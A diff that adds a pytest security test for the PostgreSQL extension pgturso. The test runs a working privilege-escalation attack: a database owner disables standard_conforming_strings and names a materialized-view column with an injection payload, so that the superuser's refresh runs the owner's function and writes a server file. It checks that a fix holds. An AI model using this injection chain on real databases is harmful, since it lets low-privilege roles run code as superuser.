@@ -1,0 +1,59 @@
+"""Attacks on pgturso 0.2.0 by roles that are not superusers (helper review of issue 16's fixes).
+
+Each test performs an attack against the real cluster and asserts that it fails; a test that fails means
+the attack still works.
+"""
+
+from __future__ import annotations
+
+import uuid
+
+import psycopg
+from test_security import login_role
+
+
+def test_database_owner_cannot_run_code_as_the_operator_refreshing_a_tracked_materialized_view(conn, dsn):
+    """The refresh function of a tracked materialized view embeds the view's column names in string constants
+    (capture.refresh_function_sql: quote_literal doubles quotes, not backslashes) and does not pin
+    standard_conforming_strings. A database owner sets it off for the database (ALTER DATABASE ... SET: a
+    USERSET setting) and names a column of their view  \\'||public.x());--  : in the operator's session the
+    string ends at the backslash-quote, and the rest of the name becomes PL/pgSQL code that calls the owner's
+    function with the operator's rights when the operator calls pgturso.refresh_materialized_view.
+    The refresh then fails (pgturso's own _follow_schema does not compile with the setting off either, and
+    rolls the transaction back), so the proof is something a transaction cannot take back: a file the
+    server writes with COPY ... TO, which only a superuser may do (COPY TO PROGRAM would run any command)."""
+    db = conn.info.dbname
+    proof = f"pgturso-attack-proof-{uuid.uuid4().hex}"  # in the data directory
+    with login_role(conn, dsn, "dbowner") as owner_dsn:
+        conn.execute(f'ALTER DATABASE "{db}" OWNER TO dbowner')
+        conn.execute("GRANT CREATE ON SCHEMA public TO dbowner")
+        try:
+            with psycopg.connect(owner_dsn, autocommit=True) as owner:
+                owner.execute(f"""
+                    CREATE FUNCTION public.x() RETURNS text LANGUAGE plpgsql AS $$
+                    BEGIN
+                        IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
+                            EXECUTE format('COPY (SELECT current_user) TO %L',
+                                           current_setting('data_directory') || '/{proof}');
+                        END IF;
+                        -- completes the statement the column name cut short
+                        RETURN 'a")::text AS r, ''[1]'' AS k FROM (SELECT 1 AS id, 2 AS "''a") AS src';
+                    END $$;
+                    CREATE TABLE base (id int PRIMARY KEY, v text);
+                    INSERT INTO base VALUES (1, 'a');
+                    CREATE MATERIALIZED VIEW mv AS SELECT id, v AS "\\'||public.x());--" FROM base;
+                    CREATE UNIQUE INDEX ON mv (id)""")
+            conn.execute("SELECT pgturso.track_table('mv')")
+            with psycopg.connect(owner_dsn, autocommit=True) as owner:
+                owner.execute(f'ALTER DATABASE "{db}" SET standard_conforming_strings = off')
+            # The operator (a superuser), in a new session of that database, refreshes the view as documented.
+            with psycopg.connect(dsn, autocommit=True) as operator:
+                try:
+                    operator.execute("SELECT pgturso.refresh_materialized_view('mv')")
+                except psycopg.Error:
+                    pass  # judged by what ran, not by whether the refresh failed
+            written = conn.execute("SELECT (pg_stat_file(%s, true)).size IS NOT NULL", (proof,)).fetchone()[0]
+            assert not written, "the database owner's function ran as a superuser (it wrote a server file)"
+        finally:
+            conn.execute(f'ALTER DATABASE "{db}" RESET standard_conforming_strings')
+            conn.execute(f'ALTER DATABASE "{db}" OWNER TO {conn.info.user}')
